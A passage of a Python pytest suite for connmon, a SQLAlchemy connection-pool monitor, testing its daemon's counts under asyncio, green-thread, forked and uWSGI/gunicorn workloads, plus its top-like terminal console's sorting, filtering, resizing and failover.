                    f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
                    f"&connmon_addr={daemon.address}")
    try:
        started, longest, cap, grown = map(int, master.line(timeout=120))
        assert started == 0
        assert cap // 2 < longest <= cap
        assert grown == 0
        assert master.line() == ["2"]
        # Nothing was lost: the events folded on the way, and every
        # checkout counted in the notes.
        row = daemon.wait_row("master.py", nproc=1, conn=3, ckout=2,
                              ckout_total=2 * MASTER_CHURN + 4,
                              invalidations_total=MASTER_CHURN)
        assert row["limit"] == 3
    finally:
        master.stop()


# An asyncio engine (aiomysql) with ?plugin=connmon: tasks hold and churn
# connections; the pool's own counts are the truth.
ASYNC_SCRIPT = r'''
import asyncio, os, sys
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine

async def main():
    engine = create_async_engine(sys.argv[1], pool_size=6, max_overflow=0)
    held = []
    for _ in range(3):
        held.append(await engine.connect())
        await held[-1].execute(sa.text("SELECT 1"))

    async def churn():
        for _ in range(20):
            async with engine.connect() as conn:
                await conn.execute(sa.text("SELECT 1"))
    await asyncio.gather(*(churn() for _ in range(3)))
    pool = engine.sync_engine.pool
    print(os.getpid(), pool.checkedout() + pool.checkedin(),
          pool.checkedout(), flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)

asyncio.run(main())
'''


# An app patched by eventlet or gevent, reporting over TLS with the apps'
# secret, that holds two connections and then blocks its hub (a blocking
# read of stdin on the patched main thread): connmon's own threads, real
# ones, keep the daemon's picture right meanwhile.
GREEN_TLS_SCRIPT = r"""
import logging, sys
if sys.argv[1] == "eventlet":
    import eventlet
    eventlet.monkey_patch()
else:
    from gevent import monkey
    monkey.patch_all()
import sqlalchemy as sa

logged = []

class Keep(logging.Handler):
    def emit(self, record):
        logged.append(record.getMessage())

logging.getLogger("connmon").addHandler(Keep())
logging.getLogger("connmon").setLevel(logging.INFO)
engine = sa.create_engine(sys.argv[2], pool_size=4)
held = [engine.connect() for _ in range(2)]
for conn in held:
    conn.exec_driver_sql("SELECT 1")
print("ready", flush=True)
sys.stdin.readline()
print("logged", repr(logged).replace(" ", "_"), flush=True)
"""


@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
def test_green_app_reports_over_tls_while_its_hub_is_blocked(tmp_path,
                                                             runtime):
    ca = CertificateAuthority(tmp_path, "ca")
    certfile, keyfile = ca.issue("server", "127.0.0.1")
    good = secret_file(tmp_path, "good.secret")
    daemon = SecureDaemon(tmp_path, extra_config=(
        f"auth_secret_file: {good}\nssl_certfile: {certfile}\n"
        f"ssl_keyfile: {keyfile}\nssl_cafile: {ca.cafile}\n"))
    trusting = client_config(tmp_path, daemon, "trusting.cfg", (
        f"auth_secret_file: {good}\nssl_cafile: {ca.cafile}\n"))
    app = Script(tmp_path, "green_tls.py", GREEN_TLS_SCRIPT, runtime,
                 sqlite_app_url(tmp_path, f"connmon_config={trusting}"
                                "&connmon_service=test"))
    try:
        assert app.line() == ["ready"]
        row = daemon.wait_row("green_tls.py", procs=True, conn=2, ckout=2)
        assert [p["pid"] for p in row["procs"]] == [app.proc.pid]
        app.send("report")
        kind, logged = app.line()
        assert kind == "logged"
        # Only the one line that says it connected: no error, no retry.
        assert logged == ('["connmon:_connected_to_connmond_service_'
                          "'test'_(node_node1)\"]")
    finally:
        app.stop()
        daemon.stop()


@pytest.mark.parametrize("form", ["aiomysql-plugin", "psycopg-dialect"])
def test_asyncio_engine_is_counted(daemon, tmp_path, form):
    """?plugin=connmon on an asyncio driver's URL, or the <driver>_connmon
    name of a driver that has an asyncio dialect too."""
    if form == "aiomysql-plugin":
        require_database(MYSQL_URL)
        url = (MYSQL_URL.replace("+pymysql", "+aiomysql")
               + f"?plugin=connmon&connmon_addr={daemon.address}")
    else:
        require_database(POSTGRESQL_URL)
        url = monitored(POSTGRESQL_URL.replace("+psycopg2", "+psycopg"),
                        daemon)
    app = Script(tmp_path, "asyncapp.py", ASYNC_SCRIPT, url)
    try:
        pid, conn, ckout = map(int, app.line())
        assert ckout == 3 and conn >= 4
        # (the checkout count may come a message after the connections:
        # counters alone wait for the events to stop: Sender._fold_batch)
        row = daemon.wait_row("asyncapp.py", procs=True, nproc=1, conn=conn,
                              ckout=ckout, ckout_total=3 + 3 * 20)
        assert [(p["pid"], p["limit"]) for p in row["procs"]] == [(pid, 6)]
    finally:
        app.stop()


# Many threads at once at the first pool events of a fresh sender, and of
# a child of C fork() (no at-fork hook, as uWSGI forks), the GIL switched
# often to make the most of any race: one reset, one pair of threads.
BURST_SCRIPT = r'''
import ctypes, os, sys, threading, time
import sqlalchemy as sa
import connmon

THREADS = 32
engine = sa.create_engine(sys.argv[1], pool_size=THREADS, max_overflow=0)
if sys.argv[2] == "c-fork":
    engine.connect().close()   # the parent's own threads run
    time.sleep(3 * connmon.WAKE_AGAIN)   # (see the fork test)
    if ctypes.PyDLL(None).fork():   # the GIL stays held: the child owns it
        sys.stdin.readline()
        sys.exit()
sys.setswitchinterval(1e-6)
at_once = threading.Barrier(THREADS)
held = threading.Barrier(THREADS)

def first_use():
    at_once.wait()
    with engine.connect() as conn:
        conn.execute(sa.text("SELECT 1"))
        held.wait()

users = [threading.Thread(target=first_use) for _ in range(THREADS)]
for user in users:
    user.start()
for user in users:
    user.join()
sys.setswitchinterval(0.005)
for user in users:   # until the joined OS threads are gone
    while os.path.exists(f"/proc/self/task/{user.native_id}"):
        time.sleep(0.01)
(sender,) = connmon._senders.values()
print(os.getpid(), len(os.listdir("/proc/self/task")) - 1,
      sorted(str(t.native_id) for t in sender.threads) == sorted(
          t for t in os.listdir("/proc/self/task") if int(t) != os.getpid()),
      flush=True)
sys.stdin.readline()
'''


@pytest.mark.parametrize("process", ["fresh", "c-fork"])
def test_threads_at_the_first_pool_event_start_one_sender(daemon, tmp_path,
                                                          process):
    """32 threads using a pool for the first time at the same instant, in
    a fresh process or a child of C fork(): exactly one pair of connmon
    threads, one connection to connmond, and the pool's counts."""
    app = Script(tmp_path, "burst.py", BURST_SCRIPT,
                 f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
                 f"&connmon_addr={daemon.address}", process)
    try:
        pid, threads, ours = app.line()
        assert (threads, ours) == ("2", "True")
        procs = {int(pid): (32, 0)}
        if process == "c-fork":
            procs[app.proc.pid] = (1, 0)   # the parent's idle one
        row = daemon.wait_row("burst.py", procs=True, nproc=len(procs),
                              conn=sum(c for c, _ in procs.values()),
                              ckout=0)
        assert sorted((p["pid"], (p["conn"], p["ckout"]))
                      for p in row["procs"]) == sorted(procs.items())
        log = daemon.log.read_text()
        assert "another live connection" not in log, log
    finally:
        app.stop()


def children_of(pid: int) -> List[int]:
    """The live child processes of ``pid`` (a server's workers)."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit()
            and _parent_pid(int(name)) == pid]


def threads_of(pid: int) -> Tuple[int, int]:
    """How many OS threads process ``pid`` has, and how many of them a
    SIGTERM sent to the process may be delivered to (not blocking it)."""
    tasks, accepting = 0, 0
    for tid in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{tid}/status") as status:
                blocked = int(re.search(r"^SigBlk:\s*(\w+)$", status.read(),
                                        re.M).group(1), 16)
        except OSError:   # a thread that ended meanwhile
            continue
        tasks += 1
        accepting += not blocked & (1 << (signal.SIGTERM - 1))
    return tasks, accepting


class WorkersServer(Server):
    """A Server that notes, as it is stopped, its workers' threads (see
    threads_of) and the pids connmond lists for ``progname``."""

    def __init__(self, tmp_path, argv: List[str], port: int,
                 daemon: Optional[Daemon] = None, progname: str = ""):
        super().__init__(tmp_path, argv, port)
        self.daemon, self.progname = daemon, progname
        self.threads: Dict[int, Tuple[int, int]] = {}
        self.listed: List[int] = []

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.threads = {pid: threads_of(pid)
                            for pid in children_of(self.proc.pid)}
            if self.daemon:
                row = self.daemon.row(self.progname, procs=True) or {}
                self.listed = [p["pid"] for p in row.get("procs", [])]
        super().stop()

    def rush(self, clients: int = 48) -> None:
        """``clients`` requests at once from the moment it starts (each
        tried again until the server listens), all answered."""
        answered = []

        def client():
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                try:
                    answered.append(self.get("/work"))
                    return
                except OSError:
                    time.sleep(0.01)
        rushing = [threading.Thread(target=client) for _ in range(clients)]
        for thread in rushing:
            thread.start()
        for thread in rushing:
            thread.join(40)
        assert len(answered) == clients, self.log_tail()

    def serve_all(self, workers: int) -> None:
        """Until every worker has answered (no check of counts)."""
        pids: set = set()
        wait_until(lambda: pids.update(r["pid"] for r in self.answers(
            "/work")) or len(pids) == workers, 30, "every worker to answer")


def plain_wsgi_app(tmp_path, use_at_load: bool) -> pathlib.Path:
    """The WSGI application, the same but not monitored, in a folder of
    its own."""
    folder = tmp_path / "plain"
    folder.mkdir(exist_ok=True)
    path = folder / "connmon_wsgi_app.py"
    path.write_text(WSGI_APP.format(patch="", url=MYSQL_URL,
                                    pool_size=POOL_SIZE,
                                    use_at_load=use_at_load))
    return path


def uwsgi_argv(port: int, app: pathlib.Path, *flags: str) -> List[str]:
    return ["uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
            "--processes", "2", "--threads", "4", "--wsgi-file", str(app),
            "--die-on-term", "--disable-logging", *flags]


# The workers' threads without connmon, per (flags, use_at_load): measured
# once a run.
_plain_uwsgi_threads: Dict[tuple, set] = {}


def plain_uwsgi_threads(tmp_path, flags: tuple, use_at_load: bool) -> set:
    key = (flags, use_at_load)
    if key not in _plain_uwsgi_threads:
        app = plain_wsgi_app(tmp_path, use_at_load)
        port = free_port()
        server = WorkersServer(app.parent, uwsgi_argv(port, app, *flags),
                               port)
        try:
            server.rush()
            server.serve_all(2)
        finally:
            server.stop()
        _plain_uwsgi_threads[key] = set(server.threads.values())
    return _plain_uwsgi_threads[key]


@pytest.mark.parametrize("flags, use_at_load, start", [
    ((), False, 0), ((), False, 1), ((), True, 0), ((), True, 1),
    (("--enable-threads",), True, 0)])
def test_uwsgi_threads_first_requests_start_connmon_once(
        tmp_path, flags, use_at_load, start):
    """uWSGI --threads 4, two workers, 48 requests at once from the start:
    each worker has exactly connmon's two threads more than without
    connmon, and they take none of the server's signals; connmond's
    picture per pid is each worker's pool, the master is not listed, and
    no descriptor was used after it was closed."""
    require_database(MYSQL_URL)
    plain = plain_uwsgi_threads(tmp_path, flags, use_at_load)
    assert len(plain) == 1, plain   # (tasks, accepting SIGTERM) per worker
    ((tasks, accepting),) = plain
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon, use_at_load=use_at_load)
        port = free_port()
        server = WorkersServer(tmp_path, uwsgi_argv(port, app, *flags), port,
                               daemon, "uwsgi")
        try:
            server.rush()
        except AssertionError:
            server.stop()
            raise
        check_server(server, daemon, "uwsgi", 2)
        assert len(server.threads) == 2, server.threads
        assert set(server.threads.values()) == {(tasks + 2, accepting)}, (
            f"without connmon {plain}; with it {server.threads}")
        assert sorted(server.listed) == sorted(server.threads)
        logs = server.log.read_text() + daemon.log.read_text()
        for trouble in ("Bad file descriptor", "another live connection"):
            assert trouble not in logs, logs[-3000:]
    finally:
        daemon.stop()


def stop_under_load(server: WorkersServer, bound: float,
                    daemon: Optional[Daemon] = None,
                    progname: str = "") -> float:
    """Once both workers of ``server`` answer (and ``daemon`` lists them
    under ``progname``: connmon runs in each), SIGTERM its master while
    eight clients keep asking; the seconds until it has exited, at most
    ``bound`` (past it, the server is killed and the test fails)."""
    try:
        server.serve_all(2)
        if daemon:
            daemon.wait_row(progname, nproc=2)
    except AssertionError:
        server.stop()
        raise
    stopping = threading.Event()
    answered = []

    def client():
        while not stopping.is_set():
            try:
                answered.append(server.get("/work"))
            except (OSError, ValueError):   # refused, cut off: stopping
                time.sleep(0.01)
    clients = [threading.Thread(target=client) for _ in range(8)]
    for thread in clients:
        thread.start()
    try:
        wait_until(lambda: len(answered) >= 16, 20, "clients served")
        began = time.monotonic()
        server.proc.send_signal(signal.SIGTERM)
        try:
            server.proc.wait(bound)
        except subprocess.TimeoutExpired:
            raise AssertionError(f"still running {bound:.1f} s after "
                                 f"SIGTERM\n{server.log_tail()}") from None
        return time.monotonic() - began
    finally:
        stopping.set()
        for thread in clients:
            thread.join(10)
        server.stop()


def stop_server_argv(kind: str, port: int, app: pathlib.Path) -> List[str]:
    if kind == "uwsgi":
        return uwsgi_argv(port, app)
    return ["gunicorn", "-w", "2", "-k", "gthread", "--threads", "4", "-b",
            f"127.0.0.1:{port}", "connmon_wsgi_app:application"]


# (Twelve and six stops, not twenty: a start and stop of a server under
# load takes 3 to 8 s on a busy two-core machine.)
@pytest.mark.parametrize("kind, stops", [("uwsgi", 12), ("gunicorn", 6)])
def test_server_with_connmon_stops_as_fast_as_without(tmp_path, kind,
                                                      stops):
    """Stops under load of a server of two workers with four threads
    each, with connmon, each within the longest of two stops of the
    same server without connmon plus a margin (15 s: a shared machine's
    load makes a stop's time vary) far below what a stop left to a signal
    on one of connmon's threads took (uWSGI's 60 s "NO MERCY", gunicorn's
    30 s graceful timeout)."""
    require_database(MYSQL_URL)
    plain_app = plain_wsgi_app(tmp_path, use_at_load=False)
    plain = []
    for _ in range(2):
        port = free_port()
        server = WorkersServer(plain_app.parent, stop_server_argv(
            kind, port, plain_app), port)
        plain.append(stop_under_load(server, 30))
    bound = max(plain) + 15
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon)
        for _ in range(stops):
            port = free_port()
            server = WorkersServer(tmp_path, stop_server_argv(kind, port, app),
                                   port)
            stop_under_load(server, bound, daemon, kind)
            wait_until(lambda: (daemon.row(kind) or {}).get("nproc") == 0,
                       10, "the stopped workers to leave the picture")
        log = server.log.read_text()
        for trouble in ("Traceback", "connmon:", "MERCY", "SIGKILL"):
            assert trouble not in log, log[-3000:]
    finally:
        daemon.stop()


# ===========================================================================
# The console
#
# The top-like console in a real terminal: rows against the truth, colours,
# sorting, filter, drill-down, resizing, failover, the fleet view, history,
# thresholds, keys; the layout's plan and cutter at 80 and 40 columns;
# --once, --json and the demo.
# ===========================================================================


def test_console_once_json_and_table(daemon, apps, tmp_path):
    app = apps(f"sqlite+pysqlite_connmon:///{tmp_path}/c.sqlite"
               f"?connmon_addr={daemon.address}", "console_app.py")
    app("hold 1")
    daemon.wait_row("console_app.py", conn=1, ckout=1)
    for args in (["-H", daemon.address],
                 ["-c", str(daemon.config), "-s", "test"],
                 ["-c", str(daemon.config), "-s", "test", "-n", "node1"]):
        result = subprocess.run(
            [sys.executable, "-m", "connmon_console", "--once", "--json",
             *args], cwd=HERE, env=CHILD_ENV, capture_output=True, text=True,
            timeout=30)
        assert result.returncode == 0, result.stderr
        snapshot = json.loads(result.stdout)
        assert {k: snapshot[k] for k in (
            "service", "node", "hosts", "processes", "connections",
            "checkouts")} == {"service": "test", "node": "node1", "hosts": 1,
                              "processes": 1, "connections": 1,
                              "checkouts": 1}
        (row,) = snapshot["rows"]
        assert set(row) >= {"hostname", "progname", "connected", "nproc",
                            "conn", "ckout", "maxnproc", "maxconn",
                            "maxckout", "ckout_per_sec"}
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "-H",
         daemon.address], cwd=HERE, env=CHILD_ENV, capture_output=True,
        text=True,
        timeout=30)
    assert "Conn 1/1" in result.stdout
    assert "console_app.py" in result.stdout


def expected_numbers(row: Dict[str, Any]) -> List[str]:
    """How the console should show a snapshot row's numbers (the first
    nine: all but the time-dependent ckout/s, hold_ms and oldest)."""
    return [str(row[key]) if row[key] is not None else "-" for key in (
        "nproc", "conn", "ckout", "limit", "waiting", "timeouts_per_sec",
        "maxnproc", "maxconn", "maxckout")]


def test_snapshot_oldest_hold_ms_limit_exhausted(daemon, apps, tmp_path):
    small = apps(sqlite_url(tmp_path, daemon), "small.py", pool_size=2,
                 max_overflow=1, pool_timeout=1)
    memory = apps(f"sqlite+pysqlite_connmon://?connmon_addr="
                  f"{daemon.address}", "memory.py")
    small("hold 3")
    memory("hold 1")
    daemon.wait_row("small.py", ckout=3)
    daemon.wait_row("memory.py", ckout=1)
    # A connection held 3 s is at least 3 s old, in the JSON snapshot too.
    wait_until(lambda: (daemon.row("small.py")["oldest"] or 0) >= 3,
               what="small.py oldest >= 3")
    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "--json",
         "--procs", "-H", daemon.address], cwd=HERE, env=CHILD_ENV,
        capture_output=True, text=True, timeout=30)
    assert result.returncode == 0, result.stderr
    rows = {row["progname"]: row for row in json.loads(result.stdout)["rows"]}
    row = rows["small.py"]
    assert row["oldest"] >= 3
    assert (row["limit"], row["ckout"], row["exhausted"]) == (3, 3, True)
    (proc,) = row["procs"]
    assert (proc["pid"], proc["limit"], proc["exhausted"]) == (
        small.proc.pid, 3, True)
    assert proc["oldest"] >= 3
    # SQLite :memory: uses SingletonThreadPool: no limit, never exhausted.
    assert (rows["memory.py"]["limit"], rows["memory.py"]["exhausted"]) == (
        None, False)
    assert rows["memory.py"]["hold_ms"] is None   # nothing returned yet

    # Returning the 3-second connection: the mean hold time shows it for
    # one window, then there is nothing to average again.
    small("release 1")
    row = wait_until(lambda: (lambda r: r if r["hold_ms"] else None)(
        daemon.row("small.py")), what="small.py hold_ms")
    assert row["hold_ms"] >= 3000
    assert (row["ckout"], row["exhausted"]) == (2, False)
    daemon.wait_row("small.py", hold_ms=None)
    small("release 2")
    row = daemon.wait_row("small.py", ckout=0, oldest=None)
    assert row["limit"] == 3

    # A gone program has no limit (and so is not "exhausted" at 0 of 0).
    small.stop()
    row = daemon.wait_row("small.py", connected=False)
    assert (row["limit"], row["oldest"], row["exhausted"]) == (
        None, None, False)

    result = subprocess.run(
        [sys.executable, "-m", "connmon_console", "--once", "-H",
         daemon.address], cwd=HERE, env=CHILD_ENV, capture_output=True,
        text=True, timeout=30)
    lines = result.stdout.splitlines()
    (header,) = [n for n, line in enumerate(lines)
                 if line.split()[:1] == ["HOSTNAME"]]
    assert lines[header].split() == [
        "HOSTNAME", "PROGNAME", "NPROC", "CONN", "CKOUT", "LIMIT", "WAIT",
        "TMOUT/S", "MAXNPROC", "MAXCONN", "MAXCKOUT", "CKOUT/S", "HOLD_MS",
        "OLDEST"]
    rows = [line for line in lines[header + 1:] if not line.startswith(" ")]
    (memory_line,) = [line for line in rows if "memory.py" in line]
    assert memory_line.split()[2:6] == ["1", "1", "1", "-"]
    (small_line,) = [line for line in rows if "small.py" in line]
    assert small_line.endswith("(gone)")


def test_console_rows_match_the_truth_with_colours(daemon, apps, tmp_path,
                                                   terminal):
    alpha = apps(sqlite_url(tmp_path, daemon), "alpha.py", pool_size=1,
                 max_overflow=0)
    beta = apps(sqlite_url(tmp_path, daemon), "beta.py")
    gone = apps(sqlite_url(tmp_path, daemon), "gone.py")
    alpha("hold 1")
    beta("hold 3")
    beta("release 1")
    gone("hold 2")
    daemon.wait_row("gone.py", ckout=2)
    gone.stop()
    daemon.wait_row("gone.py", connected=False)
    daemon.wait_row("beta.py", conn=3, ckout=2)
    term = terminal("-H", daemon.address, "-i", "0.2")
    term.wait_text(f"attached to {daemon.address}")
    rows = {row["progname"]: row for row in daemon.snapshot()["rows"]}
    for name in ("alpha.py", "beta.py", "gone.py"):
        term.wait_for(lambda t: t.numbers(name) and t.numbers(name)[:9] ==
                      expected_numbers(rows[name]), f"{name} numbers")
    assert term.numbers("alpha.py")[:9] == ["1", "1", "1", "1", "0", "0",
                                            "1", "1", "1"]
    assert term.numbers("gone.py")[:9] == ["0", "0", "0", "-", "0", "0",
                                           "1", "2", "2"]
    assert term.colour("beta.py") == "green"
    assert term.colour("gone.py") == "red"
    # alpha's one-connection pool is exhausted: highlighted.
    y, _ = term.rows()["alpha.py"]
    assert term.screen.buffer[y][0].bg == "brown"   # pyte's name for yellow
    truth = daemon.snapshot()
    assert (truth["hosts"], truth["processes"], truth["connections"],
            truth["checkouts"]) == (1, 2, 4, 3)
    totals = [f"Hosts 1/{truth['max_hosts']}",
              f"Procs 2/{truth['max_processes']}",
              f"Conn 4/{truth['max_connections']}",
              f"Ckout 3/{truth['max_checkouts']} "]
    term.wait_for(lambda t: all(line in t.text for line in totals),
                  f"totals {totals}")

    # The truth changes; the screen follows within a few refreshes.
    beta("hold 2")
    daemon.wait_row("beta.py", conn=4, ckout=4)
    term.wait_for(lambda t: t.numbers("beta.py")[:3] == ["1", "4", "4"],
                  "beta.py at 4 checkouts")
    alpha("release 1")
    term.wait_for(lambda t: t.colour("alpha.py") == "green" and
                  t.screen.buffer[t.rows()["alpha.py"][0]][0].bg
                  == "default", "alpha.py no longer exhausted")

    # 'c' asks, then clears the maxima in connmond; the screen shows it.
    term.press(b"c")
    term.wait_text("Clear the maxima for every console and Prometheus? y "
                   "clears, any other key keeps them")
    term.press(b"y")
    term.wait_text("maxima cleared in connmond")
    term.wait_for(lambda t: t.numbers("gone.py")[6:9] == ["0", "0", "0"],
                  "cleared maxima")
    assert daemon.row("beta.py")["maxckout"] == 4


def test_console_sorts_by_every_column(daemon, apps, tmp_path, terminal):
    url = sqlite_url(tmp_path, daemon)
    started = {}
    for name, commands, options in (
            ("a-one.py", ["hold 1"], {"pool_size": 2, "max_overflow": 0}),
            ("b-three.py", ["hold 3"], {}),
            ("c-idle.py", ["hold 2", "release 2"], {"pool_size": 4,
                                                    "max_overflow": 0}),
            ("d-gone.py", ["hold 4"], {})):
        started[name] = apps(url, name, **options)
        for command in commands:
            started[name](command)
    apps(f"sqlite+pysqlite_connmon://?connmon_addr={daemon.address}",
         "e-memory.py")("hold 1")
    daemon.wait_row("d-gone.py", ckout=4)
    started["d-gone.py"].stop()
    daemon.wait_row("d-gone.py", connected=False)
    daemon.wait_row("c-idle.py", conn=2, ckout=0)
    daemon.wait_row("e-memory.py", ckout=1)
    term = terminal("-H", daemon.address, "-i", "0.2")
    term.wait_for(lambda t: len(t.rows()) == 5, "five rows")
    snapshot_rows = daemon.snapshot()["rows"]
    keys = ["hostname", "progname", "nproc", "conn", "ckout", "limit",
            "waiting", "timeouts_per_sec", "maxnproc", "maxconn", "maxckout",
            "ckout_per_sec", "hold_ms", "oldest"]
    headings = ["HOSTNAME", "PROGNAME", "NPROC", "CONN", "CKOUT", "LIMIT",
                "WAIT", "TMOUT/S", "MAXNPROC", "MAXCONN", "MAXCKOUT",
                "CKOUT/S", "HOLD_MS", "OLDEST"]

    def expected(key: str, reverse: bool) -> List[str]:
        # "-" (no value) sorts below every number; ties keep name order.
        rows = sorted(snapshot_rows, key=lambda r: (
            r[key] if isinstance(r[key], str) else
            float("-inf") if r[key] is None else r[key]), reverse=reverse)
        return [row["progname"] for row in rows]

    # A top: it starts with the most connections first.
    term.wait_text("sorted by CONN descending")
    assert term.order() == expected("conn", True)
    orders = set()
    for step in range(len(keys)):
        index = (3 + step) % len(keys)   # from CONN on, as > goes
        key, heading = keys[index], headings[index]
        if step:
            term.press(b">")
        # Numbers start with the biggest, names with A.
        for reverse in ((False, True) if key in ("hostname", "progname")
                        else (True, False)):
            order = "descending" if reverse else "ascending"
            term.wait_text(f"sorted by {heading} {order}")
            if key not in ("ckout_per_sec", "hold_ms"):  # all idle: equal
                want = expected(key, reverse)
                term.wait_for(lambda t: t.order() == want,
                              f"order by {key} {order}: {want}")
                orders.add(tuple(want))
            term.press(b"r")
    assert len(orders) >= 6   # the columns really order differently

    def selected(t: Terminal) -> List[str]:
        return [name for name, (y, _) in t.rows().items()
                if t.screen.buffer[y][0].reverse]
    # The selection starts on the top row, and stays on its row when the
    # order changes under it once chosen.
    term.wait_for(lambda t: selected(t) == [t.order()[0]],
                  "the top row selected")
    term.press(b">")   # from NPROC, where the round ended, to CONN
    term.wait_text("sorted by CONN descending")
    term.press(term.key["khome"] + term.key["kcud1"] * 3)
    term.wait_for(lambda t: selected(t) == [t.order()[3]],
                  "the fourth row selected")
    (chosen,) = selected(term)
    term.press(b"r")
    term.wait_for(lambda t: t.order() == expected("conn", False)
                  and selected(t) == [chosen], f"{chosen} still selected")
    # The sort menu (F6): pick OLDEST; biggest first, its arrow in the
    # heading's own cell, clear of its neighbours.
    term.press(term.key["kf6"])
    term.wait_text("Sort by")
    term.press(term.key["kend"] + b"\r")
    term.wait_text("sorted by OLDEST descending")
    term.wait_for(lambda t: t.order() == expected("oldest", True),
                  "sorted by the menu's choice")
    assert re.search(r"HOLD_MS +\N{DOWNWARDS ARROW}OLDEST ", term.text)
    term.press(b"<")
    term.wait_text("sorted by HOLD_MS descending")
    assert re.search(r"CKOUT/S +\N{DOWNWARDS ARROW}HOLD_MS +OLDEST",
                     term.text)


def test_console_filter_pause_and_drill_down(daemon, apps, tmp_path,
                                             terminal):
    url = sqlite_url(tmp_path, daemon)
    web = apps(url, "web-api.py")
    web("hold 1")
    pids = []
    for held in range(4):   # four processes of one program: 0..3 held
        worker = apps(url, "worker.py")
        worker(f"hold {held}" if held else "query 1")   # each uses its pool
        pids.append(worker.proc.pid)
    daemon.wait_row("worker.py", nproc=4, ckout=6)
    daemon.wait_row("web-api.py", ckout=1)
    term = terminal("-H", daemon.address, "-i", "0.2")
    term.wait_for(lambda t: set(t.rows()) == {"web-api.py", "worker.py"},
                  "both rows")

    term.press(b"/wOrK")
    term.wait_text("Filter: wOrK_")
    term.wait_for(lambda t: set(t.rows()) == {"worker.py"}, "filtered")
    term.press(b"\r")
    term.wait_text("[filter: wOrK]")
    term.press(b"\x1b")
    term.wait_for(lambda t: len(t.rows()) == 2, "filter cleared")

    # Pause: the truth changes, the numbers on screen do not.
    term.press(b"p")
    term.wait_text("PAUSED")
    web("hold 2")
    daemon.wait_row("web-api.py", ckout=3)
    time.sleep(1.0)   # five refresh intervals: nothing may change
    assert term.numbers("web-api.py")[:3] == ["1", "1", "1"]
    term.press(b"p")
    term.wait_for(lambda t: "PAUSED" not in t.text and
                  t.numbers("web-api.py")[:3] == ["1", "3", "3"],
                  "updates resumed")

    # Enter on worker.py (the top row: most connections) lists its four
    # processes.
    term.press(b"\r")
    term.wait_text("worker.py on")
    term.wait_text("4 processes")

    def processes(t: Terminal) -> Dict[int, List[str]]:
        """pid -> [conn, ckout] of the process lines on screen (above the
        history and the long holders)."""
        lines = itertools.takewhile(lambda line: not line.startswith(
            "History"), t.display[7:])
        return {int(fields[0]): fields[1:3] for fields in (
            line.split() for line in lines)
            if fields and fields[0].isdigit()}
    # (the worker that holds none keeps its query's connection pooled)
    want = {pid: [str(max(n, 1)), str(n)]
            for pid, n in zip(pids, [0, 1, 2, 3])}
    term.wait_for(lambda t: processes(t) == want, f"processes {want}")
    assert "CONNECTED SINCE" in term.text
    term.press(b"\x7f")   # Backspace returns to the table
    term.wait_for(lambda t: len(t.rows()) == 2, "back to the table")
    term.press(b"?")
    term.wait_text("connmon keys")
    term.press(b"x")
    term.wait_for(lambda t: len(t.rows()) == 2, "back from help")


def test_console_resize_scroll_and_no_color(daemon, apps, tmp_path,
                                            terminal):
    url = sqlite_url(tmp_path, daemon)
    for index in range(12):
        apps(url, f"prog{index:02d}.py")("hold 1")
    wait_until(lambda: daemon.snapshot()["checkouts"] == 12,
               what="12 checkouts")
    term = terminal("-H", daemon.address, "-i", "0.2", "--no-color",
                    lines=15)
    # 15 lines: 7 header lines and a footer leave 7 rows visible.
    term.wait_for(lambda t: len(t.rows()) == 7, "seven visible rows")
    colours = {(char.fg, char.bg) for line in term.screen.buffer.values()
               for char in line.values()}
    assert colours == {("default", "default")}
    term.press(term.key["kend"])
    term.wait_for(lambda t: t.order()[-1] == "prog11.py", "scrolled to end")
    term.press(term.key["khome"])
    term.wait_for(lambda t: t.order()[0] == "prog00.py", "back at the top")
    term.press(term.key["knp"])
    term.wait_for(lambda t: "prog00.py" not in t.order(), "page down")

    term.resize(40, 15)
    # 40 columns: the names, CONN, CKOUT and OLDEST; the rest is dropped.
    term.wait_for(lambda t: t.display[5].startswith("12 rows") and
                  t.display[6].split() == ["HOSTNAME", "PROGNAME",
                                           "\N{DOWNWARDS ARROW}CONN",
                                           "CKOUT", "OLDEST"], "40 columns")
    for keys in (b">", term.key["kcud1"], b"\r", b"\x1b", b"?", b"x"):
        term.press(keys)
    term.resize(30, 4)   # smaller than the header: nothing to draw, no crash
    term.wait_for(lambda t: t.display[0].startswith("connmon"),
                  "tiny")
    term.resize(120, 30)
    term.wait_for(lambda t: len(t.rows()) == 12 and "OLDEST" in t.text,
                  "full width again")
    assert term.proc.poll() is None


def test_console_survives_daemon_restart(daemon, apps, tmp_path, terminal):
    app = apps(sqlite_url(tmp_path, daemon), "steady.py")
    app("hold 2")
    daemon.wait_row("steady.py", ckout=2)
    term = terminal("-H", daemon.address, "-i", "0.2")
    term.wait_for(lambda t: t.numbers("steady.py") and
                  t.colour("steady.py") == "green", "steady.py live")
    daemon.kill()
    term.wait_text("disconnected \N{EM DASH} retrying")
    # The last picture stays, greyed.
    term.wait_for(lambda t: t.numbers("steady.py")[:3] == ["1", "2", "2"]
                  and t.colour("steady.py") == "brightblack", "greyed")
    app("hold 1")   # changes while the daemon is away
    daemon.start()
    term.wait_for(lambda t: f"attached to {daemon.address}" in t.text and
                  t.numbers("steady.py")[:3] == ["1", "3", "3"] and
                  t.colour("steady.py") == "green", "reattached")


def test_console_fails_over_to_another_node(tmp_path, apps, terminal):
    first, second = Daemon(tmp_path), Daemon(tmp_path)
    try:
        config = tmp_path / "two.cfg"
        config.write_text(textwrap.dedent(f"""\
            [connmon_service_two]
            name: two
            nodes:
                n1 hostname=127.0.0.1:{first.port}
                n2 hostname=127.0.0.1:{second.port}
            """))
        term = terminal("-c", str(config), "-s", "two", "-i", "0.2")
        term.wait_text("attached to 127.0.0.1:")
        attached = first if f":{first.port} " in term.text else second
        other = second if attached is first else first
        attached.kill()
